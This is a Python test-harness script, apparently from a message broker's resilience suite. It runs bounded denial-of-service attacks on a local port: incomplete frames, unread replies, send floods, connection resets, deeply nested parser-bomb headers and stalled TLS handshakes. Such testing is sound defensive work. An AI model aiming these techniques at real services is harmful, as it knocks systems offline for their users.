"""The attacker, a process of its own, so that it takes no CPU time from the honest client.

    python attacker.py KIND PORT OPTIONS        options are JSON; prints "ready", keeps its connections, ends with stdin

Every kind is bounded: so many connections, so many attempts of each, and nothing after stdin has ended. `ready` means
that every connection has sent what it can, or was closed for it; a flood has had its first answer then, and continues.
The last line is JSON: how many connections were opened, how often the other side closed one, and what was sent.
"""

import asyncio
import json
import socket
import ssl
import struct
import sys
from collections.abc import Callable, Coroutine
from functools import cache
from pathlib import Path
from typing import Any, Final, final

import msgspec

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "src"))

from gantry_testing.local import RawPeer, pull_ext, send_ext
from gantry_wire import Command, RequestCode

HOST: Final = "127.0.0.1"
SETTLE_S: Final = 3.0
"""After so long without progress a connection has sent what it can: the other side does not read it."""
RESET: Final = struct.pack("ii", 1, 0)
"""SO_LINGER that makes `close` a reset."""
ONEWAY: Final = 2
"""The flag of a request that wants no answer."""
CHUNK_BYTES: Final = 256 * 1024
ESTABLISHED: Final = 1
"""The first byte of TCP_INFO (the state) while a connection is open."""


@final
class Attack:
    """The state that all connections of one attack share. Owned by the event loop."""

    def __init__(self, port: int, options: dict[str, Any]) -> None:
        self.port = port
        self.options = options
        self.loop = asyncio.get_running_loop()
        self.sent_bytes = 0
        self.sent_at_ready_bytes = 0
        """The bytes that were sent when `ready` was printed."""
        self.opened = 0
        """How many connections were opened."""
        self.closed = 0
        """How often the other side ended or refused a connection, or answered the expensive frame."""

    async def connect(self, receive_bytes: int = 0) -> socket.socket:
        peer = socket.socket()
        peer.setblocking(False)
        if receive_bytes:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        await self.loop.sock_connect(peer, (HOST, self.port))
        self.opened += 1
        return peer

    async def send(self, peer: socket.socket, data: bytes) -> bool:
        """Send data; return False if the other side stops taking it before its end."""
        view = memoryview(data)
        while view:
            try:
                async with asyncio.timeout(SETTLE_S):
                    await self.loop.sock_sendall(peer, view[:CHUNK_BYTES])
            except TimeoutError:
                return False
            self.sent_bytes += min(len(view), CHUNK_BYTES)
            view = view[CHUNK_BYTES:]
        return True

    async def wait_closed(self, peer: socket.socket) -> None:
        """Wait until the other side closes the connection."""
        while await self.loop.sock_recv(peer, 65536):
            pass


ConnectionAttack = Callable[[Attack, asyncio.Event], Coroutine[Any, Any, None]]
"""One connection of an attack; sets the event when it has sent what it can, in a flood after the first answer."""


def frame_head(total: int, header_bytes: int, serialization: int = 0) -> bytes:
    """Return the first eight bytes of a frame: its length, and its header's length and form."""
    return struct.pack(">II", total, serialization << 24 | header_bytes)


async def incomplete_frame(attack: Attack, ready: asyncio.Event) -> None:
    """Send an incomplete frame, again whenever the connection was closed for it."""
    options = attack.options
    head = bytes.fromhex(options["head"]) if "head" in options else frame_head(options["frame_bytes"] - 4, 100)
    data = head + bytes(options["part_bytes"])
    for _ in range(options.get("attempts", 2)):
        try:
            peer = await attack.connect()
        except OSError:
            attack.closed += 1
            continue
        try:
            await attack.send(peer, data)
            ready.set()
            await attack.wait_closed(peer)
            attack.closed += 1
        except OSError:
            attack.closed += 1
        finally:
            peer.close()


async def queue_end(port: int) -> int:
    """Return the end of the queue to which the honest client sends."""
    peer = await RawPeer.open(port)
    await peer.send(Command(code=RequestCode.GET_MAX_OFFSET, ext={"topic": "AbuseHonest", "queueId": "0"}).encode())
    header: dict[str, Any] = json.loads((await peer.frame()).header)
    await peer.close()
    return int(header["extFields"]["offset"])


async def unread_replies(attack: Attack, ready: asyncio.Event) -> None:
    """Send requests, and never read a byte of a reply."""
    options = attack.options
    if options["request"] == "pull":
        large = pull_ext(0, topic="AbuseLarge", maxMsgNums="1000") | {"maxMsgBytes": str(options["reply_bytes"])}
        command = Command(code=RequestCode.PULL_MESSAGE, ext=large)
    elif options["request"] == "held":
        # A pull beyond the end would be answered at once.
        end = await queue_end(attack.port)
        command = Command(code=RequestCode.PULL_MESSAGE, ext=pull_ext(end, wait_ms=60_000, topic="AbuseHonest"))
    else:
        command = Command(code=options["code"])
    peer = await attack.connect(receive_bytes=4096)
    try:
        requests = command.encode() * options["requests"]
        await attack.send(peer, requests)
        ready.set()
        await asyncio.Event().wait()
    except OSError:
        attack.closed += 1
    except asyncio.CancelledError:
        # Nothing is read, so only the kernel knows whether the other side has ended it.
        attack.closed += peer.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 104)[0] != ESTABLISHED
    finally:
        peer.close()


@cache
def sends(size: int) -> bytes:
    """Return about `size` bytes of small sends, of which only the last wants an answer."""
    code = RequestCode.SEND_MESSAGE_V2
    command = Command(code=code, ext=send_ext(code, topic="AbuseFlood"), body=bytes(1024))
    last, oneway = command.encode(), msgspec.structs.replace(command, flag=ONEWAY).encode()
    return oneway * (size // len(oneway) - 1) + last


async def flood(attack: Attack, ready: asyncio.Event) -> None:
    """Send bursts of sends, each after the last one was answered."""
    options = attack.options
    peer = await attack.connect()
    try:
        for _ in range(options["attempts"]):
            await attack.send(peer, sends(options["burst_bytes"]))
            await attack.loop.sock_recv(peer, 65536)
            ready.set()
        await attack.wait_closed(peer)
        attack.closed += 1
    except OSError:
        attack.closed += 1
    finally:
        peer.close()


async def reset(attack: Attack, ready: asyncio.Event) -> None:
    """Open connections and reset them: at once, perhaps before they are accepted, in a frame, or after a request."""
    options = attack.options
    part = frame_head(1000, 100) + bytes(50)
    for number in range(options["attempts"]):
        try:
            peer = await attack.connect()
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            if number % 2:
                await attack.send(peer, part if number % 4 == 1 else Command(code=28).encode())
            peer.close()
        except OSError:
            attack.closed += 1
    ready.set()


def expensive_frames() -> list[bytes]:
    """Return frames whose headers are expensive to parse (nested, long, wrong lengths), and one with a nested body."""
    deep = 400_000
    many = b",".join(b'"k%d":"v"' % number for number in range(60_000))
    one = struct.pack(">h", 1) + b"k" + struct.pack(">i", 1) + b"v"
    counted = one * 60_000
    headers = [
        (b"[" * deep, 0),
        (b'{"a":' * (deep // 5), 0),
        (b'{"code":310,"extFields":{"a":' + b"[" * deep + b"}}", 0),
        (b'{"code":34,"extFields":{' + many + b"}}", 0),
        (b'{code:310,extFields:{' + b"a:[" * (deep // 3), 0),
        (b'{"code":' + b"9" * deep + b"}", 0),
        (struct.pack(">hBhiii", 310, 0, 0, 1, 0, 0) + struct.pack(">i", len(counted)) + counted, 1),
        (struct.pack(">hBhiii", 310, 0, 0, 1, 0, 0x7FFFFFFF) + bytes(1000), 1),
        (struct.pack(">hBhiii", 310, 0, 0, 1, 0, 0) + struct.pack(">i", 0x7FFFFFF0) + bytes(1000), 1),
    ]  # fmt: skip
    frames = [frame_head(4 + len(header), len(header), kind) + header for header, kind in headers]
    nested = b'{"clientID":"c","consumerDataSet":' + b"[" * deep + b"]" * deep + b"}"
    return [*frames, Command(code=RequestCode.HEART_BEAT, body=nested).encode()]


async def expensive_frame(attack: Attack, ready: asyncio.Event) -> None:
    """Send every expensive frame in turn, each on a connection of its own, which is usually closed for it."""
    frames = expensive_frames()
    for number in range(attack.options["attempts"]):
        try:
            peer = await attack.connect()
            await attack.send(peer, frames[number % len(frames)])
            async with asyncio.timeout(SETTLE_S):
                await attack.loop.sock_recv(peer, 65536)
            attack.closed += 1
            peer.close()
        except TimeoutError:
            peer.close()
        except OSError:
            attack.closed += 1
    ready.set()


async def incomplete_handshake(attack: Attack, ready: asyncio.Event) -> None:
    """Start a TLS handshake whose first message is long and never complete."""
    size = attack.options["hello_bytes"]
    records = b""
    body = b"\x01" + (size + 1000).to_bytes(3, "big") + bytes(size)
    for start in range(0, len(body), 16000):
        part = body[start : start + 16000]
        records += b"\x16\x03\x01" + len(part).to_bytes(2, "big") + part
    for _ in range(attack.options.get("attempts", 2)):
        try:
            peer = await attack.connect()
            await attack.send(peer, records)
            ready.set()
            await attack.wait_closed(peer)
            attack.closed += 1
            peer.close()
        except OSError:
            attack.closed += 1


async def incomplete_tls_frame(attack: Attack, ready: asyncio.Event) -> None:
    """Send half a frame after a complete handshake: the buffers of TLS count in addition."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    options = attack.options
    try:
        reader, writer = await asyncio.open_connection(HOST, attack.port, ssl=context)
        attack.opened += 1
        writer.write(frame_head(options["frame_bytes"] - 4, 100) + bytes(options["part_bytes"]))
        attack.sent_bytes += options["part_bytes"]
        async with asyncio.timeout(SETTLE_S):
            await writer.drain()
        ready.set()
        while await reader.read(65536):
            pass
        attack.closed += 1
    except TimeoutError:
        ready.set()
        await asyncio.Event().wait()
    except OSError:
        attack.closed += 1


KINDS: Final[dict[str, ConnectionAttack]] = {
    "incomplete_frame": incomplete_frame,
    "unread_replies": unread_replies,
    "flood": flood,
    "reset": reset,
    "expensive_frame": expensive_frame,
    "incomplete_handshake": incomplete_handshake,
    "incomplete_tls_frame": incomplete_tls_frame,
}


async def run(kind: str, port: int, options: dict[str, Any]) -> dict[str, int]:
    """Run all connections of an attack until stdin is closed."""
    attack = Attack(port, options)

    async def open_one() -> None:
        ready = asyncio.Event()
        working = asyncio.create_task(KINDS[kind](attack, ready))
        waiting = asyncio.create_task(ready.wait())
        await asyncio.wait([working, waiting], return_when=asyncio.FIRST_COMPLETED)
        waiting.cancel()
        connections.append(working)

    connections: list[asyncio.Task[None]] = []
    await asyncio.gather(*(open_one() for _ in range(options["connections"])))
    attack.sent_at_ready_bytes = attack.sent_bytes
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for task in connections:
        task.cancel()
    results = await asyncio.gather(*connections, return_exceptions=True)
    bugs = [result for result in results if isinstance(result, Exception)]
    if bugs:
        raise bugs[0]
    return {
        "opened": attack.opened,
        "closed": attack.closed,
        "sent_bytes": attack.sent_bytes,
        "sent_at_ready_bytes": attack.sent_at_ready_bytes,
    }


if __name__ == "__main__":
    print(json.dumps(asyncio.run(run(sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3])))), flush=True)
